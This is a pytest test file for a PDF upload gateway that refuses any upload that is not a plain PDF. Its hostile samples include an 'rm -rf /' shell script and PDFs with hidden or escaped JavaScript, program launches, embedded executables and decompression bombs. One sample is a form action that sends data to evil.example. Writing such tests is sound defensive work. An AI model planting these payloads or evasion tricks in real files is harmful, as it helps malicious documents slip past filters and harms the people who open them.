"""Only plain PDFs pass, whatever they are called; what is hostile ends in a word within bounds of time and memory."""

import io
import time
import zipfile
import zlib

import pytest

from proposals.intake.gateways import pdf as gateway
from tests.pdfs import PAGE, packed, pdf, stream


def why_not(tmp_path, data):
    path = tmp_path / "upload"
    path.write_bytes(data)
    try:
        gateway.examine(path)
    except gateway.NotPlain as found:
        return found.why
    return ""


def zipped():
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("META-INF/MANIFEST.MF", "Main-Class: Evil")
    return file.getvalue()


def encrypted():
    from pypdf import PdfReader, PdfWriter

    writer, out = PdfWriter(PdfReader(io.BytesIO(pdf()))), io.BytesIO()
    writer.encrypt("secret", algorithm="RC4-128")
    writer.write(out)
    return out.getvalue()


def in_object_stream(body):
    """The object hides in a compressed object stream, where no plain search sees it."""
    inside = b"4 0 " + body
    held = stream(zlib.compress(inside), b"/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode")
    bodies = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE]
    out, places = b"%PDF-1.7\n", {}
    for number, thing in [*enumerate(bodies, 1), (5, held)]:
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, thing)
    start = len(out)
    rows = bytearray(b"\0\0\0\0\0")
    for number in range(1, 6):
        rows += b"\x02" + (5).to_bytes(3, "big") + b"\0" if number == 4 else b"\x01" + places[number].to_bytes(3, "big") + b"\0"
    rows += b"\x01" + start.to_bytes(3, "big") + b"\0"
    table = stream(zlib.compress(bytes(rows)), b"/Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Filter /FlateDecode")
    return out + b"6 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, start)


SCRIPT = b"<< /S /JavaScript /JS (app.alert(1)) >>"
HOSTILE = {
    "nothing at all": (b"", "not_pdf"),
    "html called pdf": (b"<!doctype html><script>alert(1)</script>", "not_pdf"),
    "svg": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "not_pdf"),
    "png": (b"\x89PNG\r\n\x1a\n" + bytes(64), "not_pdf"),
    "zip": (zipped(), "not_pdf"),
    "windows program": (b"MZ\x90\x00" + bytes(200), "not_pdf"),
    "elf program": (b"\x7fELF\x02\x01\x01" + bytes(200), "not_pdf"),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "not_pdf"),
    "postscript": (b"%!PS-Adobe-3.0\nshowpage\n", "not_pdf"),
    "html before the pdf": (b"<script>alert(1)</script>\n" + pdf(), "not_pdf"),
    "only the first bytes of one": (b"%PDF-1.7\n", "damaged"),
    "only its first and last words": (b"%PDF-1.7\n%%EOF\n", "damaged"),
    "cut in the middle": (pdf()[:150], "damaged"),
    "a zip hanging on": (pdf(tail=zipped()), "mixed"),
    "html hanging on": (pdf(tail=b"<script>alert(1)</script>"), "mixed"),
    "encrypted": (encrypted(), "encrypted"),
    "script on opening": (pdf(catalog=b"/OpenAction " + SCRIPT), "active"),
    "script by another spelling": (pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>"), "active"),
    "script in a stream of objects": (in_object_stream(SCRIPT), "active"),
    "script in the table of names": (pdf(catalog=b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>"), "active"),
    "launch of a program": (pdf(b"<< /S /Launch /F (cmd.exe) >>", catalog=b"/OpenAction 4 0 R"), "active"),
    "launch on a page": (
        pdf(page=PAGE[:-2] + b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /#4caunch /F (x) >> >>] >>"),
        "active",
    ),
    "form that sends": (pdf(catalog=b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>"), "active"),
    "xfa form": (pdf(stream(b"<xdp/>"), catalog=b"/AcroForm << /XFA 4 0 R >>"), "active"),
    "rich media": (pdf(page=PAGE[:-2] + b"/Annots [<< /Subtype /RichMedia /RichMediaContent << >> >>] >>"), "active"),
    "program inside": (pdf(stream(b"MZ\x90", b"/Type /EmbeddedFile")), "embedded"),
    "file as a note": (pdf(page=PAGE[:-2] + b"/Annots [<< /Subtype /FileAttach#6dent /FS 4 0 R >>] >>"), "embedded"),
    "bomb of one layer": (pdf(stream(packed(450 << 20), b"/Filter /FlateDecode")), "too_complex"),
    "bomb of two layers": (pdf(stream(packed(450 << 20, 2), b"/Filter [/FlateDecode /FlateDecode]")), "too_complex"),
    "arrays without end": (pdf(b"[" * 5000 + b"]" * 5000), "too_complex"),
    "pages that hold themselves": (pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "damaged"),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_examine_refuses_what_is_no_plain_pdf(tmp_path, name):
    data, why = HOSTILE[name]
    began = time.monotonic()
    assert why_not(tmp_path, data) == why
    assert time.monotonic() - began < gateway.SECONDS


def test_examine_takes_a_plain_pdf(tmp_path):
    text = stream(zlib.compress(b"BT (Letter of endorsement) Tj ET"), b"/Filter /FlateDecode")
    assert why_not(tmp_path, pdf(text, page=PAGE[:-2] + b"/Contents 4 0 R >>")) == ""


def test_examine_takes_a_large_picture(tmp_path):
    assert why_not(tmp_path, pdf(stream(packed(100 << 20), b"/Subtype /Image /Filter /FlateDecode"))) == ""


def test_examine_takes_links_and_signatures(tmp_path):
    link = b"/Annots [<< /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://example.org) >> >>] >>"
    form = b"/AcroForm << /SigFlags 3 /Fields [<< /FT /Sig /T (Signature) /V << /Type /Sig >> >>] >>"
    assert why_not(tmp_path, pdf(page=PAGE[:-2] + link, catalog=form)) == ""


def test_examine_says_what_a_file_looks_like(tmp_path):
    path = tmp_path / "letter.pdf"
    path.write_bytes(HOSTILE["png"][0])
    with pytest.raises(gateway.NotPlain) as found:
        gateway.examine(path)
    assert found.value.looks_like == "png"


def test_examine_survives_random_bytes(tmp_path):
    import random

    dice, whole = random.Random(7), pdf(stream(b"x" * 300))
    words = set()
    for _ in range(15):
        data = bytearray(whole)
        for _n in range(12):
            data[dice.randrange(9, len(data) - 10)] = dice.randrange(256)
        words.add(why_not(tmp_path, bytes(data)))
    assert words <= {"", "damaged", "too_complex", "mixed"}
